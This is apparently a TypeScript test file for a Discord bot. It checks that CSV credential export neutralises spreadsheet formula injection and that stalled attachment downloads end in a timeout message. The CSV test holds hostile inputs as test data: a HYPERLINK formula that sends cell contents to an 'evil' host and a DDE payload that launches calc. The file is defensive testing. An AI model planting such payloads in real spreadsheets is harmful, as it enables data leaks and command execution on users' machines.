import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { downloadAttachment } from '../../src/discord/attachments.js';
import { credentialsCsv, csvField } from '../../src/discord/credentials.js';
import { messages } from '../../src/discord/i18n.js';
import { UserError } from '../../src/errors.js';

const m = messages('en');

// Issue 10 §6: the smaller holes, one test each.
describe('credentials CSV', () => {
  it('neutralises cells a spreadsheet would run as a formula (OWASP CSV injection)', () => {
    for (const bad of ['=HYPERLINK("http://evil/"&A1)', '+1+1', '-2+3', '@SUM(A1)', '\tcmd', '\rcmd']) {
      const cell = csvField(bad);
      // after CSV unquoting the cell starts with ', which spreadsheets show as text
      const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
      expect(unquoted, bad).toBe(`'${bad}`);
    }
    expect(csvField('ivanov@pve')).toBe('ivanov@pve');
    expect(csvField('a,b')).toBe('"a,b"');
    const csv = credentialsCsv([{ group: 'g', userid: '=cmd|\' /C calc\'!A0@pve', password: 'Abc-def', pool: 'p', consoleUrl: 'https://x/' }]);
    expect(csv.split('\n')[1]).toBe("'=cmd|' /C calc'!A0@pve,Abc-def,https://x/,p,g");
  });
});

describe('attachment download that stalls', () => {
  let server: Server;
  let base: string;
  beforeAll(async () => {
    server = createServer((req, res) => {
      if (req.url === '/half.csv') {
        // headers and the first line, then nothing: a stalled transfer
        res.writeHead(200, { 'content-type': 'text/csv', 'content-length': '1000' });
        res.write('user\nivanov\n');
        return;
      }
      // /silent.csv: not even headers
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    server.closeAllConnections();
    await new Promise((r) => server.close(r));
  });

  for (const file of ['half.csv', 'silent.csv']) {
    it(`ends in the user-facing timeout message (${file}), not an internal error`, async () => {
      const host = base.replace('http://', '');
      const err = await downloadAttachment({ url: `${base}/${file}`, name: file, size: 1000, contentType: 'text/csv' }, { allowedHosts: [host], m, timeoutMs: 500 }).then(
        () => undefined,
        (e: unknown) => e,
      );
      expect(err).toBeInstanceOf(UserError);
      expect((err as Error).message).toBe('The attachment did not finish downloading within 0.5 s. Upload it again.');
    });
  }
});
